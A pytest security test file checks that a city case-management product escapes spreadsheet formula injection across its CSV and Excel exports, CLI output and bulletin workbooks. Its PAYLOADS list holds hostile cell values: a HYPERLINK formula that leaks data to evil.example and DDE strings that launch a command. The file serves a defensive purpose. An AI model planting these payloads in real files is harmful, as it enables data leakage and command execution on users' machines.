"""Spreadsheet formula injection: names that start a formula go through every file a user opens
in a spreadsheet — the dashboard's case-list CSV and Excel downloads, the quarantine CSV,
`xiaoneng export` (CSV and xlsx), `xiaoneng stats lagging --format csv`, the bulletin workbook —
and come out as text: no formula cell, no cell that starts a formula, the visible text intact.

The city is the demo generator's, with every agency, item and county name (and one agency
code) poisoned before import, so the names reach the files through the product's own paths.
The files are read back with openpyxl and the csv module, independently of the writer.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from queries.spreadsheet_cells import FORMULA_PREFIXES
from tests.security.conftest import USERS

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
POISONED_CODE = "=1+1"  # prefixed to one agency's code (codes are text from the source, too)
MONTH = dt.date(2025, 3, 1)


def _poison(names: pl.Series) -> pl.Series:
    return pl.Series(names.name, [PAYLOADS[i % len(PAYLOADS)] + n
                                  for i, n in enumerate(names.to_list())])


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory) -> Iterator[dict]:
    """A computed database whose agency, item and county names are formulas."""
    from metrics.jobs import run_compute
    from queries.calendar import seed_official
    from queries.engine import make_engine
    from queries.importer import import_frames
    from queries.migrate import upgrade
    from xiaoneng.demo import generate

    url = f"sqlite:///{tmp_path_factory.mktemp('poisoned') / 'city.db'}"
    engine = make_engine(url)
    upgrade(engine)
    seed_official(engine, 2024, 2026)
    t = generate(cases=4000, seed=7, start=dt.date(2025, 1, 1), end=MONTH)
    victim = t["agencies"]["agency_code"][0]
    recode = pl.col("agency_code").replace({victim: POISONED_CODE + victim})
    t["agencies"] = t["agencies"].with_columns(recode, _poison(t["agencies"]["name"]))
    t["items"] = t["items"].with_columns(_poison(t["items"]["name"]))
    counties = pl.col("level") == "county"
    t["regions"] = t["regions"].with_columns(
        pl.when(counties).then(pl.lit(PAYLOADS[0]) + pl.col("name")).otherwise(pl.col("name"))
        .alias("name"))
    for name in ("cases", "reviews"):
        t[name] = t[name].with_columns(recode)
    report = import_frames(engine, t, source="poisoned", progress=False)
    assert report.ok and report.quarantined == 0, report.format()
    run_compute(engine, None, as_of=dt.datetime(2025, 3, 31, 18))
    county = t["regions"].filter(counties).row(0, named=True)
    engine.dispose()
    yield {"url": url, "county": county["region_code"], "county_name": county["name"],
           "agency_names": set(t["agencies"]["name"]), "victim": POISONED_CODE + victim}


# --- reading the files back ----------------------------------------------------------------


def _csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _xlsx_cells(data: bytes | Path) -> list[tuple[str, object, str]]:
    """(sheet!cell, value, data_type) of every non-empty cell; `_x000D_` decoded as Excel does."""
    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    out = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    v = c.value.replace("_x000D_", "\r") if isinstance(c.value, str) else c.value
                    out.append((f"{ws.title}!{c.coordinate}", v, c.data_type))
    return out


def assert_csv_safe(data: bytes) -> set[str]:
    """No cell starts a formula. Returns the original texts of the neutralised cells (what
    follows the apostrophe), so a test can check the poisoned values arrived intact."""
    seen = set()
    for row in _csv_cells(data):
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell
            if cell.startswith("'"):
                seen.add(cell[1:])
    return seen


def assert_xlsx_safe(data: bytes | Path) -> set[str]:
    """No formula cell; text cells hold the value itself (no apostrophe added). Returns texts."""
    texts = set()
    for where, value, kind in _xlsx_cells(data):
        assert kind != "f", (where, value)
        if isinstance(value, str):
            assert kind in ("s", "inlineStr"), (where, value, kind)
            texts.add(value)
    return texts


def _has_all_payloads(texts: set[str]) -> None:
    """Every payload reached the file (the importer trims leading whitespace, so "\t=1+1…"
    arrives as "=1+1…"; the tab and CR prefixes themselves are pinned by the rule's own test)."""
    starts = {p for p in PAYLOADS for t in texts if t.startswith(p.lstrip())}
    assert starts == set(PAYLOADS), set(PAYLOADS) - starts


# --- the dashboard's downloads -------------------------------------------------------------


@pytest.fixture
def poisoned_app(poisoned, monkeypatch):
    import dashboard.auth
    from dashboard import data

    monkeypatch.setenv("DATABASE_URL", poisoned["url"])
    monkeypatch.setattr(dashboard.auth, "current_user", lambda: USERS["analyst"])
    data.invalidate()
    yield poisoned
    data.invalidate()


def _agency_names(engine) -> dict[str, str]:
    from queries import extracts

    a = extracts.load_agencies(engine)
    return dict(zip(a["agency_code"], a["name"], strict=True))


def test_case_list_csv_download_neutralises_poisoned_names(poisoned_app) -> None:
    from dashboard import panels
    from queries.extracts import Filters

    data = panels.case_export("accepted", Filters(MONTH, MONTH), "numerator", "csv")()
    rows = _csv_cells(data)
    header, body = rows[0], rows[1:]
    assert body
    seen = assert_csv_safe(data)
    # the text after the apostrophe is the name exactly as imported
    names = {c[1:] if c.startswith("'") else c for r in body for c in r}
    assert names & poisoned_app["agency_names"]
    _has_all_payloads(seen | names)
    assert header  # and the header row is plain


def test_case_list_excel_download_has_no_formula_and_the_names_intact(poisoned_app) -> None:
    from dashboard import panels
    from queries.extracts import Filters

    data = panels.case_export("accepted", Filters(MONTH, MONTH), "numerator", "xlsx")()
    texts = assert_xlsx_safe(data)
    assert texts & poisoned_app["agency_names"]  # visible text = the name, no apostrophe
    _has_all_payloads(texts)


def test_quarantine_csv_download_neutralises_the_rejected_values(poisoned_app, tmp_path
                                                                 ) -> None:
    from dashboard import data, panels
    from queries.engine import make_engine
    from queries.importer import import_paths
    from xiaoneng.demo import generate

    cases = generate(cases=len(PAYLOADS) * 3, seed=3, start=MONTH, end=MONTH)["cases"]
    cases = cases.head(len(PAYLOADS)).with_columns(  # unknown items: every row quarantined,
        pl.Series("case_id", [f"{p}Q{i}" for i, p in enumerate(PAYLOADS)]),  # keyed by its id
        pl.Series("item_code", [p + "item" for p in PAYLOADS]))
    bad = tmp_path / "cases.csv"
    cases.write_csv(bad)
    eng = make_engine(poisoned_app["url"])
    import_paths(eng, [bad], progress=False)
    eng.dispose()
    data.invalidate()
    rows, total = data.quarantine_rows(None, None)
    assert total >= len(PAYLOADS)
    out = panels.quarantine_export(rows)()
    seen = assert_csv_safe(out)
    assert len(_csv_cells(out)) == rows.height + 1
    _has_all_payloads(seen)


# --- the command line ----------------------------------------------------------------------


@pytest.fixture
def cli_env(poisoned, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", poisoned["url"])
    return poisoned


def test_cli_export_csv_and_xlsx_write_the_poisoned_code_as_text(cli_env, tmp_path) -> None:
    from xiaoneng.cli import main

    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"agency.{fmt}"
        assert main(["export", "--grain", "agency", "--from", "2025-01", "--to", "2025-03",
                     "--metrics", "accepted", "--format", fmt, "--out", str(out)]) == 0
        if fmt == "csv":
            seen = assert_csv_safe(out.read_bytes())
            assert cli_env["victim"] in seen
        else:
            assert cli_env["victim"] in assert_xlsx_safe(out)


def test_cli_stats_csv_neutralises_poisoned_names(cli_env, tmp_path, capsys) -> None:
    from xiaoneng.cli import main

    out = tmp_path / "lagging.csv"
    assert main(["stats", "lagging", "--month", "2025-03", "--format", "csv",
                 "--out", str(out)]) == 0, capsys.readouterr().err
    seen = assert_csv_safe(out.read_bytes())
    assert seen & cli_env["agency_names"]


def test_bulletin_workbook_has_no_formula_not_even_in_a1(cli_env, tmp_path, capsys) -> None:
    from xiaoneng.cli import main

    for scope in ("city", f"county:{cli_env['county']}"):
        out = tmp_path / scope.replace(":", "_")
        out.mkdir()
        assert main(["report", "--month", "2025-03", "--scope", scope, "--format", "xlsx",
                     "--out", str(out)]) == 0, capsys.readouterr().err
        (book,) = out.glob("*.xlsx")
        texts = assert_xlsx_safe(book)
        cells = {w: v for w, v, _ in _xlsx_cells(book)}
        assert cells["通报!A1"].startswith("关于")  # the title, a string cell
        if scope != "city":  # the county's poisoned name is kept intact, as text
            assert any(cli_env["county_name"] in t for t in texts)
        assert texts & cli_env["agency_names"] or any(
            n in t for t in texts for n in cli_env["agency_names"])


# --- the rule itself ---------------------------------------------------------------------------


def test_the_rule_neutralises_every_formula_prefix_and_nothing_else() -> None:
    from queries.spreadsheet_cells import csv_bytes, xlsx_bytes

    texts = [p + "1+1" for p in FORMULA_PREFIXES] + ["越川市公安局", "a=b", " =1", "0012", ""]
    frame = pl.DataFrame({
        "text": texts,
        "label": pl.Series(texts, dtype=pl.Categorical),
        "number": [-1.5] * len(texts),
        "=header": ["x"] * len(texts),
    })
    rows = _csv_cells(csv_bytes(frame))
    assert rows[0] == ["text", "label", "number", "'=header"]
    for original, row in zip(texts, rows[1:], strict=True):
        expected = "'" + original if original[:1] in FORMULA_PREFIXES else original
        assert row[:3] == [expected, expected, "-1.5"], (original, row)
    cells = {w: (v, k) for w, v, k in _xlsx_cells(xlsx_bytes(frame, "t"))}
    assert_xlsx_safe(xlsx_bytes(frame, "t"))
    for i, original in enumerate(texts, start=2):
        if original:
            assert cells[f"t!A{i}"] == (original, "s")  # the text itself, a string cell
        assert cells[f"t!C{i}"] == (-1.5, "n")
